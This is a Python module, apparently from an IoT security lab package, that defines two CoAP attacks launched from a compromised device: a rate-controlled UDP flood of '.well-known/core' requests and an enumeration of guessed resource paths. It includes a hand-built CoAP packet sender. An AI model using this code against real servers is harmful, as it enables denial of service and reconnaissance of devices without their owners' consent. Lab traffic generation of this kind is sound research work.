"""Attacks over CoAP from a taken-over device."""

from __future__ import annotations

import socket
import struct
import threading

from emtc_lab.attacks.base import Aim, attack, own, tool

_PORT = 5683


@attack("coap-flood", "coap", "device", "coap")
def flood(aim: Aim) -> list[str]:
    """GETs of everything the server has, non-confirmable."""
    return own(
        "coap_get", aim.victim, f"{aim.rate((60, 200), (4, 10)):.1f}", f"{aim.seconds:.0f}", ".well-known/core"
    )


@attack("coap-enumeration", "coap", "device", "coap")
def enumeration(aim: Aim) -> list[str]:
    """GETs of guessed resources."""
    return own("coap_get", aim.victim, f"{aim.rate((5, 20), (0.3, 1)):.2f}", f"{aim.seconds:.0f}", "guess-{}")


@tool
def coap_get(server: str, rate: str, seconds: str, path: str) -> None:
    """GETs (RFC 7252, section 3); ``{}`` in the path becomes a number."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.connect((server, _PORT))
        for number in range(int(float(rate) * float(seconds)) + 2):
            header = struct.pack(">BBH", 0x50, 1, number & 0xFFFF)
            sender.send(header + _path_options(path.format(number)))
            threading.Event().wait(1 / float(rate))


def _path_options(path: str) -> bytes:
    """Uri-Path options (number 11), each part shorter than 269 bytes."""
    options, delta = b"", 11
    for part in path.encode().split(b"/"):
        length = bytes([delta << 4 | len(part)]) if len(part) < 13 else bytes([delta << 4 | 13, len(part) - 13])
        options += length + part
        delta = 0
    return options
